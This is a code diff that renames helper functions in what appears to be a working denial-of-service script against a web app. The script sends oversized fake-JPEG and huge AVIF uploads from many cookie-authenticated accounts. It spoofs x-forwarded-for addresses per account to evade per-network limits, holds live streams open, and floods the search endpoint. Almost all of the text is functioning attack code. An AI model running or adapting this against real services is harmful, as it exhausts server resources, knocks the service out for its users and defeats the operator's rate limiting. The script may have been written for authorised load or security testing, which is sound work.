@@ -38,8 +38,8 @@ const STREAM_AGAIN_MS = 1_000;
 
 const accounts = JSON.parse(cookies) as string[];
 const agent = new Agent({ keepAlive: true });
-const fillBytes = formOf(Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(attack.fillByteSize - 2, 0xff)]));
-const oneColour = formOf(
+const fillBytes = buildForm(Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(attack.fillByteSize - 2, 0xff)]));
+const oneColour = buildForm(
   await sharp({ create: { width: 10_000, height: 5_000, channels: 3, background: '#b86' } })
     .avif({ effort: 0 })
     .toBuffer(),
@@ -65,26 +65,26 @@ for (let sender = 0; sender < attack.oneColourFirst; sender += 1) void send(send
 await pause(BETWEEN_MS);
 for (let sender = 0; sender < attack.oneColourThen; sender += 1) void send(attack.oneColourFirst + sender, oneColour);
 
-function formOf(photo: Buffer): Buffer {
+function buildForm(photo: Buffer): Buffer {
   const head = '--line\r\ncontent-disposition: form-data; name="image1"; filename="photo.jpg"\r\n\r\n';
   return Buffer.concat([Buffer.from(head), photo, Buffer.from('\r\n--line--\r\n')]);
 }
 
 /** Each account has its own network in the proxy's forwarding header. */
-function headersOf(account: number): Record<string, string> {
+function buildHeaders(account: number): Record<string, string> {
   return { cookie: accounts[account] ?? '', 'x-forwarded-for': `198.18.${account}.1` };
 }
 
 /** Resolves with the status as soon as it arrives; aborts the rest of the upload. */
 async function send(account: number, form: Buffer): Promise<number> {
   const headers = {
-    ...headersOf(account),
+    ...buildHeaders(account),
     'content-type': 'multipart/form-data; boundary=line',
     'content-length': form.length,
   };
   const sent = request(`${url}/api/people/photo`, { method: 'POST', headers, agent: false }).on('error', () => {});
   sent.end(form);
-  const status = await statusOf(sent);
+  const status = await waitForStatus(sent);
   sent.destroy();
   return status;
 }
@@ -95,10 +95,13 @@ async function sendAgain(account: number, form: Buffer): Promise<never> {
 
 /** Opens a live stream and reopens it whenever it ends; resolves after the first opening. */
 async function listen(account: number): Promise<void> {
-  const opening = request(`${url}/api/inbox/news`, { headers: headersOf(account), agent: false }).on('error', () => {});
+  const opening = request(`${url}/api/inbox/news`, { headers: buildHeaders(account), agent: false }).on(
+    'error',
+    () => {},
+  );
   opening.once('close', () => void pause(STREAM_AGAIN_MS).then(() => listen(account)));
   opening.end();
-  await statusOf(opening);
+  await waitForStatus(opening);
 }
 
 async function searchAgain(): Promise<never> {
@@ -108,12 +111,12 @@ async function searchAgain(): Promise<never> {
     const query = new URLSearchParams({ query: words.join(' ') }).toString();
     const sent = request(`${url}/api/listing/search?${query}`, { headers, agent }).on('error', () => {});
     sent.end();
-    if ((await statusOf(sent)) !== 200) await pause(AGAIN_MS);
+    if ((await waitForStatus(sent)) !== 200) await pause(AGAIN_MS);
   }
 }
 
 /** Status of an answer, body discarded; 0 without an answer. */
-function statusOf(sent: ReturnType<typeof request>): Promise<number> {
+function waitForStatus(sent: ReturnType<typeof request>): Promise<number> {
   return new Promise((resolve) => {
     sent.once('close', () => resolve(0));
     sent.once('response', (answer: IncomingMessage) => {
